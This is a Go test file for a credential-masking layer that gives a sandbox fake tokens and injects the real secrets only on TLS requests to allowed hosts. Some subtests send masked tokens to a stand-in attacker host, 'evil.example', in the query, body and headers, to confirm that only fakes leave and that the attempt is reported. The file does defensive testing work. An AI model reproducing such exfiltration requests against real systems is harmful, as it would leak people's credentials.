package mask

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/google/go-cmp/cmp"
)

// tlsTo is a destination over verified TLS.
func tlsTo(host string) Dest { return Dest{Host: host, Port: 443, TLS: true} }

// only returns a Hosts function allowing exactly the hosts named.
func only(hosts ...string) func(string) bool {
	return func(h string) bool {
		for _, x := range hosts {
			if x == h {
				return true
			}
		}
		return false
	}
}

func TestNewFake(t *testing.T) {
	for _, tc := range []struct {
		name, real string
		prefix     string
		length     int // 0: the real value's
		alphabet   string
	}{
		{"github classic", "ghp_" + strings.Repeat("aB3", 12), "ghp_", 0, alnum},
		{"anthropic", "sk-ant-api03-" + strings.Repeat("Xy9_", 20), "sk-ant-api03-", 0, alnum},
		{"fine-grained", "github_pat_11ABCDEFG0" + strings.Repeat("z", 60), "github_pat_", 0, alnum},
		{"slack", "xoxb-123456-" + strings.Repeat("q", 24), "xoxb-", 0, alnum},
		{"aws key id", "AKIAIOSFODNN7EXAMPLE", "", 0, alnum},
		{"hex", strings.Repeat("0f", 20), "", 0, hexLower},
		{"password", "hunter2", "", minRandom + 4, alnum},
		{"prefix but short rest", "npm_abc", "", minRandom + 4, alnum},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFake(tc.real)
			want := tc.length
			if want == 0 {
				want = len(tc.real)
			}
			if len(f) != want || !strings.HasPrefix(f, tc.prefix) || f == tc.real {
				t.Fatalf("newFake(%q) = %q: want %d bytes starting %q", tc.real, f, want, tc.prefix)
			}
			if rest := f[len(tc.prefix):]; strings.Trim(rest, tc.alphabet) != "" {
				t.Errorf("fake %q: %q is not of %q", f, rest, tc.alphabet)
			}
			if newFake(tc.real) == f {
				t.Errorf("two fakes alike: %q", f)
			}
		})
	}
}

// TestMask: what the sandbox sees for each form of mask, and that the
// real value goes back in place of every fake.
func TestMask(t *testing.T) {
	jwt := func(payload string) string {
		return b64(`{"alg":"RS256","kid":"k1"}`) + "." + b64(payload) + ".c2lnbmF0dXJl"
	}
	tok := jwt(`{"iss":"ci","sub":"repo:x","secret":"s3cr3t-claim-value-abcdef","n":1}`)
	for _, tc := range []struct {
		name  string
		rule  Rule
		value string
		// keep is a regular expression the masked value must match
		keep  string
		names []string
		err   error
	}{
		{name: "whole", rule: Rule{Name: "env T"}, value: "ghp_" + strings.Repeat("x", 36), keep: `^ghp_[A-Za-z0-9]{36}$`, names: []string{"env T"}},
		{name: "whole file keeps its newline", rule: Rule{Name: "file /t"}, value: "tok-" + strings.Repeat("y", 30) + "\n", keep: `^tok-[A-Za-z0-9]{30}\n$`, names: []string{"file /t"}},
		{name: "extract", rule: Rule{Name: "file /n", Extract: regexp.MustCompile(`password (\S+)`)},
			value: "machine a login u password pw-one-aaaaaaaaaaaaaaaaaaaaa\nmachine b login v password pw-two-bbbbbbbbbbbbbbbbbbbbb\n# pw-one-aaaaaaaaaaaaaaaaaaaaa",
			keep:  `^machine a login u password pw-one-[A-Za-z0-9]{21}\nmachine b login v password pw-two-[A-Za-z0-9]{21}\n# pw-one-aaaaaaaaaaaaaaaaaaaaa$`,
			names: []string{"file /n #1", "file /n #2"}},
		{name: "extract duplicates", rule: Rule{Name: "file /n", Extract: regexp.MustCompile(`password (\S+)`), Duplicates: true},
			value: "password pw-one-aaaaaaaaaaaaaaaaaaaaa\n# pw-one-aaaaaaaaaaaaaaaaaaaaa",
			keep:  `^password (pw-one-[A-Za-z0-9]{21})\n# pw-one-[A-Za-z0-9]{21}$`, names: []string{"file /n #1"}},
		{name: "extract same secret twice, one fake", rule: Rule{Name: "env U", Extract: regexp.MustCompile(`:([a-z]{30})@`)},
			value: "a:" + strings.Repeat("p", 30) + "@h b:" + strings.Repeat("p", 30) + "@h", keep: `^a:[A-Za-z0-9]{30}@h b:[A-Za-z0-9]{30}@h$`, names: []string{"env U #1"}},
		{name: "extract no match", rule: Rule{Name: "env U", Extract: regexp.MustCompile(`key=(\w+)`)}, value: "nothing", err: ErrNoMatch},
		{name: "extract optional group", rule: Rule{Name: "env U", Extract: regexp.MustCompile(`k(=\w+)?`)}, value: "k", err: errors.New("group")},
		{name: "jwt whole", rule: Rule{Name: "env J", JWT: true}, value: tok, keep: `^` + regexp.QuoteMeta(fakeJWTHeader) + `\.[^.]+\.` + fakeSignature + `$`, names: []string{"env J"}},
		{name: "jwt claims", rule: Rule{Name: "env J", JWT: true, Claims: []string{"secret", "n", "absent"}}, value: tok,
			keep: `^` + regexp.QuoteMeta(b64(`{"alg":"RS256","kid":"k1"}`)) + `\.[^.]+\.` + fakeSignature + `$`, names: []string{"env J claim secret", "env J"}},
		{name: "jwt claims none", rule: Rule{Name: "env J", JWT: true, Claims: []string{"n"}}, value: tok, err: ErrNoMatch},
		{name: "jwt not a token", rule: Rule{Name: "env J", JWT: true}, value: "eyJub3Q.YQ.Yg", err: ErrNoMatch},
		{name: "jwt in a file", rule: Rule{Name: "file /c", JWT: true}, value: `{"token": "` + tok + `", "other": "eyJ4.eHh4.eA"}`,
			keep: `^\{"token": "` + regexp.QuoteMeta(fakeJWTHeader) + `\.[^.]+\.` + fakeSignature + `", "other": "eyJ4\.eHh4\.eA"\}$`, names: []string{"file /c #1"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := New(Options{})
			tc.rule.Hosts = only("api.example.com")
			got, err := s.Mask(tc.rule, tc.value)
			if tc.err != nil {
				if err == nil || !errors.Is(err, tc.err) && !strings.Contains(err.Error(), tc.err.Error()) {
					t.Fatalf("error %v, want %v", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !regexp.MustCompile(tc.keep).MatchString(got) {
				t.Errorf("masked %q does not match %s", got, tc.keep)
			}
			if diff := cmp.Diff(tc.names, s.Names()); diff != "" {
				t.Errorf("names (-want +got):\n%s", diff)
			}
			// What the sandbox sees, sent to the host, is the real value
			// (the secrets of tc.value that were masked).
			req := httptest.NewRequest("POST", "https://api.example.com/", strings.NewReader(got))
			req.Header.Set("X-Value", strings.ReplaceAll(got, "\n", " "))
			if err := s.Request(req, tlsTo("api.example.com"), nil); err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(req.Body)
			if tc.rule.Claims == nil && string(body) != tc.value {
				t.Errorf("body sent %q, want the real %q", body, tc.value)
			}
			if tc.rule.Claims != nil && string(body) != tok {
				t.Errorf("body sent %q, want the real token", body)
			}
		})
	}
}

// TestClaimsAlone: a claim's fake, extracted from the fake token and sent
// alone, goes out as the real claim; the fake token's payload keeps the
// other claims.
func TestClaimsAlone(t *testing.T) {
	tok := b64(`{"alg":"HS256"}`) + "." + b64(`{"iss":"ci","key":"claim-secret-0123456789abcdef"}`) + ".c2ln"
	s := New(Options{})
	fake, err := s.Mask(Rule{Name: "env J", JWT: true, Claims: []string{"key"}, Hosts: only("h")}, tok)
	if err != nil {
		t.Fatal(err)
	}
	payload, _ := decodeSegment(strings.Split(fake, ".")[1])
	ms, _ := objectMembers(payload)
	if len(ms) != 2 || ms[0].key != "iss" || string(ms[0].value) != `"ci"` || ms[1].key != "key" {
		t.Fatalf("fake payload %s", payload)
	}
	var claimFake string
	_ = jsonUnmarshal(ms[1].value, &claimFake)
	req := httptest.NewRequest("GET", "https://h/", nil)
	req.Header.Set("X-Key", claimFake)
	if err := s.Request(req, tlsTo("h"), nil); err != nil {
		t.Fatal(err)
	}
	if got := req.Header.Get("X-Key"); got != "claim-secret-0123456789abcdef" {
		t.Errorf("claim sent as %q", got)
	}
}

// TestRequest: where the real value goes in, and where the fake stays.
func TestRequest(t *testing.T) {
	real := "ghp_" + strings.Repeat("R", 36)
	other := "sk-" + strings.Repeat("O", 40)
	short := "pw"
	setupWith := func(o Options) (*Set, string, string, string) {
		s := New(o)
		f1, _ := s.Mask(Rule{Name: "env GH", Hosts: only("api.github.com")}, real)
		f2, _ := s.Mask(Rule{Name: "env OAI", Hosts: only("api.openai.com")}, other)
		f3, _ := s.Mask(Rule{Name: "env PW", Hosts: only("api.github.com")}, short)
		return s, f1, f2, f3
	}
	setup := func() (*Set, string, string, string) { return setupWith(Options{}) }
	// request sends req to d and returns the events it reported.
	request := func(t *testing.T, s *Set, req *http.Request, d Dest) []Event {
		t.Helper()
		var evs []Event
		if err := s.Request(req, d, func(e Event) { evs = append(evs, e) }); err != nil {
			t.Fatal(err)
		}
		if req.Body != nil {
			b, _ := io.ReadAll(req.Body)
			req.Body = io.NopCloser(bytes.NewReader(b))
		}
		return sortEvents(evs)
	}
	gh := tlsTo("api.github.com")
	t.Run("headers", func(t *testing.T) {
		s, f1, f2, _ := setup()
		req := httptest.NewRequest("GET", "https://api.github.com/?q=1", nil)
		req.Header.Set("Authorization", "token "+f1)
		req.Header.Add("X-A", "a "+f1+" b "+f1)
		req.Header.Set("X-Other", f2)
		evs := request(t, s, req, gh)
		want := http.Header{"Authorization": {"token " + real}, "X-A": {"a " + real + " b " + real}, "X-Other": {f2}}
		if diff := cmp.Diff(want, req.Header); diff != "" {
			t.Errorf("headers (-want +got):\n%s", diff)
		}
		if diff := cmp.Diff([]Event{{Dest: gh, Name: "env GH", Own: true, Substituted: true}, {Dest: gh, Name: "env OAI"}}, evs); diff != "" {
			t.Errorf("events (-want +got):\n%s", diff)
		}
	})
	t.Run("basic credentials", func(t *testing.T) {
		s, f1, _, _ := setup()
		req := httptest.NewRequest("GET", "https://api.github.com/", nil)
		req.SetBasicAuth("x-access-token", f1)
		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
			t.Fatal(err)
		}
		if u, p, _ := req.BasicAuth(); u != "x-access-token" || p != real {
			t.Errorf("basic credentials %q:%q", u, p)
		}
	})
	t.Run("other host gets the fake", func(t *testing.T) {
		s, f1, _, _ := setup()
		req := httptest.NewRequest("POST", "https://evil.example/?k="+f1, strings.NewReader("t="+f1))
		req.SetBasicAuth("u", f1)
		req.Header.Set("X-T", f1)
		evs := request(t, s, req, tlsTo("evil.example"))
		body, _ := io.ReadAll(req.Body)
		if _, p, _ := req.BasicAuth(); p != f1 || req.Header.Get("X-T") != f1 || string(body) != "t="+f1 || req.URL.RawQuery != "k="+f1 {
			t.Errorf("sent to another host: %v %q %q", req.Header, body, req.URL.RawQuery)
		}
		if diff := cmp.Diff([]Event{{Dest: tlsTo("evil.example"), Name: "env GH"}}, evs); diff != "" {
			t.Errorf("events (-want +got):\n%s", diff)
		}
	})
	t.Run("a fake in the body alone is reported", func(t *testing.T) {
		s, _, f2, _ := setup()
		req := httptest.NewRequest("POST", "https://evil.example/", strings.NewReader("leak="+f2))
		evs := request(t, s, req, tlsTo("evil.example"))
		if diff := cmp.Diff([]Event{{Dest: tlsTo("evil.example"), Name: "env OAI"}}, evs); diff != "" {
			t.Errorf("events (-want +got):\n%s", diff)
		}
	})
	for _, tc := range []struct {
		name      string
		plaintext bool
	}{{"plain HTTP: the fake stays", false}, {"plain HTTP with allowPlaintextInject: the real value", true}} {
		t.Run(tc.name, func(t *testing.T) {
			s, f1, _, _ := setupWith(Options{Plaintext: tc.plaintext})
			req := httptest.NewRequest("POST", "http://api.github.com/?k="+f1, strings.NewReader("t="+f1))
			req.Header.Set("Authorization", "token "+f1)
			plain := Dest{Host: "api.github.com", Port: 80}
			evs := request(t, s, req, plain)
			want := f1
			if tc.plaintext {
				want = real
			}
			body, _ := io.ReadAll(req.Body)
			if req.Header.Get("Authorization") != "token "+want || string(body) != "t="+want || req.URL.RawQuery != "k="+want {
				t.Errorf("sent %q, %q, %q; want %q in each", req.Header.Get("Authorization"), body, req.URL.RawQuery, want)
			}
			if diff := cmp.Diff([]Event{{Dest: plain, Name: "env GH", Own: true, Substituted: tc.plaintext}}, evs); diff != "" {
				t.Errorf("events (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("query", func(t *testing.T) {
		s2 := New(Options{})
		fq, _ := s2.Mask(Rule{Name: "env Q", Hosts: only("h")}, "a+b/c=d&e")
		req := httptest.NewRequest("GET", "https://h/?key="+fq+"&x=1", nil)
		if err := s2.Request(req, tlsTo("h"), nil); err != nil {
			t.Fatal(err)
		}
		if got := req.URL.Query().Get("key"); got != "a+b/c=d&e" {
			t.Errorf("query key %q", got)
		}
	})
	t.Run("body across reads, length kept", func(t *testing.T) {
		// (every secret for the host of the length of its fake: a body
		// keeps its length)
		s := New(Options{})
		f1, _ := s.Mask(Rule{Name: "env GH", Hosts: only("api.github.com")}, real)
		in := strings.Repeat("z", 5000) + f1 + "|" + f1 + strings.Repeat("y", 3)
		req := httptest.NewRequest("PUT", "https://api.github.com/", iotest.OneByteReader(strings.NewReader(in)))
		req.ContentLength = int64(len(in))
		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(req.Body)
		if want := strings.ReplaceAll(in, f1, real); string(body) != want {
			t.Errorf("body %q", body)
		}
		if req.ContentLength != int64(len(in)) {
			t.Errorf("content length %d, want %d kept", req.ContentLength, len(in))
		}
	})
	t.Run("body length changes", func(t *testing.T) {
		s, _, _, f3 := setup()
		req := httptest.NewRequest("POST", "https://api.github.com/", strings.NewReader(`{"pw":"`+f3+`"}`))
		req.Header.Set("Content-Length", "999")
		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(req.Body)
		if string(body) != `{"pw":"pw"}` || req.ContentLength != -1 || req.Header.Get("Content-Length") != "" {
			t.Errorf("body %q, length %d %q", body, req.ContentLength, req.Header.Get("Content-Length"))
		}
	})
	t.Run("compressed body left alone", func(t *testing.T) {
		s, f1, _, _ := setup()
		var z bytes.Buffer
		w := gzip.NewWriter(&z)
		w.Write([]byte(f1))
		w.Close()
		raw := z.Bytes()
		req := httptest.NewRequest("POST", "https://api.github.com/", bytes.NewReader(raw))
		req.Header.Set("Content-Encoding", "gzip")
		if err := s.Request(req, tlsTo("api.github.com"), nil); err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(req.Body)
		if !bytes.Equal(body, raw) {
			t.Error("a gzip body was changed")
		}
	})
}

func sortEvents(evs []Event) []Event {
	out := append([]Event(nil), evs...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j].Name < out[i].Name {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

// TestReplacer: a body cut anywhere comes out with every fake replaced,
// the same as a whole-string replacement.
func TestReplacer(t *testing.T) {
	pairs := []pair{{[]byte("FAKEONE"), []byte("r1"), &Secret{}}, {[]byte("FAKETWO2"), []byte("real-two"), &Secret{}}, {[]byte("KEEP"), []byte("KEEP"), &Secret{}}}
	for _, in := range []string{"", "FAKEONE", "xFAKEONEFAKETWO2y", "FAKEON", "FAKEFAKEONE", strings.Repeat("FAKETWO", 5) + "2", "FAKEONFAKEONE KEEP"} {
		want := strings.NewReplacer("FAKEONE", "r1", "FAKETWO2", "real-two").Replace(in)
		for _, r := range []io.Reader{strings.NewReader(in), iotest.OneByteReader(strings.NewReader(in)), iotest.HalfReader(strings.NewReader(in))} {
			got, err := io.ReadAll(newReplacer(r, pairs, func(pair) {}))
			if err != nil || string(got) != want {
				t.Errorf("%q: got %q (%v), want %q", in, got, err, want)
			}
		}
	}
}

func TestBasicMalformed(t *testing.T) {
	pairs := []pair{{[]byte("F"), []byte("R"), &Secret{}}}
	ev := &events{}
	for _, v := range []string{"Basic", "Basic !!!", "Bearer F", "basic " + base64.StdEncoding.EncodeToString([]byte("u:F"))} {
		got := basic(v, pairs, ev)
		if strings.HasPrefix(v, "basic ") {
			if got != "basic "+base64.StdEncoding.EncodeToString([]byte("u:R")) {
				t.Errorf("basic(%q) = %q", v, got)
			}
		} else if got != v {
			t.Errorf("basic(%q) = %q, want it unchanged", v, got)
		}
	}
}

func jsonUnmarshal(b []byte, v any) error { return json.Unmarshal(b, v) }
